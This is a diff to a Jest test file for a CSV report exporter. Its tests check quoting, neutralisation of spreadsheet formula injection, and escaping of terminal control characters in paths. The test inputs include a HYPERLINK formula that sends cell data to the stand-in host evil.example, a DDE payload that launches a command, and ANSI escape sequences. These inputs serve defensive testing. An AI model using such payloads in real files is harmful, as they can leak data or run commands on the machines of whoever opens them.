@@ -76,15 +76,15 @@ describe('renderCsv', () => {
   });
 
   test('quotes fields with commas, quotes and line breaks, doubling quotes, and they read back unchanged', () => {
-    const evidence = 'Co-Authored-By: "Claude, the bot" <noreply@anthropic.com>\r\nsecond line\nthird\rfourth';
+    const evidence = 'Co-Authored-By: "Claude, the bot" <noreply@anthropic.com>\r\nsecond line\nthird';
     const csv = renderCsv(withFinding({ excerpt: evidence, location: { path: 'dir,with "quotes"/CLAUDE.md' } }), context);
-    expect(csv).toContain('"Co-Authored-By: ""Claude, the bot"" <noreply@anthropic.com>\r\nsecond line\nthird\rfourth"');
+    expect(csv).toContain('"Co-Authored-By: ""Claude, the bot"" <noreply@anthropic.com>\r\nsecond line\nthird"');
     const [row] = records(csv);
     expect(row!.evidence).toBe(evidence);
     expect(row!.path).toBe('dir,with "quotes"/CLAUDE.md');
   });
 
-  test.each(['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'])(
+  test.each(['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', ' =1+1', '\n=1+1', '  \n @SUM(A1)'])(
     'neutralises the formula %j with a leading quote, in evidence and in paths',
     (hostile) => {
       const [row] = records(renderCsv(withFinding({ excerpt: hostile, location: { path: hostile, ref: hostile } }), context));
@@ -93,6 +93,12 @@ describe('renderCsv', () => {
       expect(row!.ref).toBe(`'${hostile}`);
     },
   );
+
+  test('escapes ESC, BEL, VT, FF and a lone CR in a path, so `cat report.csv` cannot drive the terminal', () => {
+    const hostile = 'a\x1b[2Jb\x07c\x0bd\x0ce\rf.md';
+    const [row] = records(renderCsv(withFinding({ excerpt: 'x', location: { path: hostile } }), context));
+    expect(row!.path).toBe('a\\u{1b}[2Jb\\u{7}c\\u{b}d\\u{c}e\\u{d}f.md');
+  });
 
   test('leaves a formula character alone when it is not the first one', () => {
     expect(csvField('a=1')).toBe('a=1');
